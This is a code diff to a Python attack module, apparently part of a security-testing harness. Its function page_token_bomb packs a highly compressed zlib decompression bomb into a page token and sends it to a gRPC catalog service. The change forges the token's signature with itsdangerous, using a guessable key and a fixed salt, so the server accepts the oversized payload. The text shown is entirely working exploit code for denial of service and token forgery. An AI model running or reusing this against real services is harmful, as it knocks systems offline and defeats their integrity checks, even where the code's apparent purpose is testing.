@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import base64
+import hashlib
 import zlib
 from collections.abc import Iterator
 from functools import partial
 
 import httpx
+from itsdangerous import URLSafeSerializer
 
 from attack.answers import Answers
 from attack.model import Outcome
@@ -59,7 +61,10 @@ def page_token_bomb(target: Target) -> Outcome:
     packer = zlib.compressobj(9)
     packed = b"".join(packer.compress(bytes(_MIB)) for _ in range(_BOMB_BYTES // _MIB))
     packed += packer.flush()
-    token = "." + base64.urlsafe_b64encode(packed).decode().rstrip("=") + ".x"
+    payload = "." + base64.urlsafe_b64encode(packed).decode().rstrip("=")
+    # Page tokens have a checksum that anybody can compute, of a request without other fields.
+    checksum = URLSafeSerializer("sori.page", salt=hashlib.sha256().digest()).make_signer()
+    token = checksum.sign(payload).decode()
     answers = Answers()
     with target.channel() as channel:
         catalog = catalog_pb2_grpc.CatalogServiceStub(channel)
